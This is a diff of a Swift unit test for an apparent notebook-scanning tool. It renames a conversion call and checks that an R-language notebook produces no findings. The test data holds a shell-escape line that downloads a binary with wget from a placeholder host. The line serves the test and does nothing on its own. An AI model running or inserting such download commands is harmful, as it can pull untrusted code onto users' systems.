@@ -216,7 +216,7 @@ struct PythonCallTests {
     func language() throws {
         let bytes = Book.bytes(["!wget -O x https://h.example/x.bin"])
         let text = String(decoding: bytes, as: UTF8.self).replacing("\"python\"", with: "\"R\"")
-        let conversion = try NotebookConversion(Array(text.utf8), name: "a.ipynb")
+        let conversion = try FileConversion(Array(text.utf8), .notebook, name: "a.ipynb")
         #expect(conversion.otherLanguage == "r" && conversion.findings.isEmpty)
     }
 }
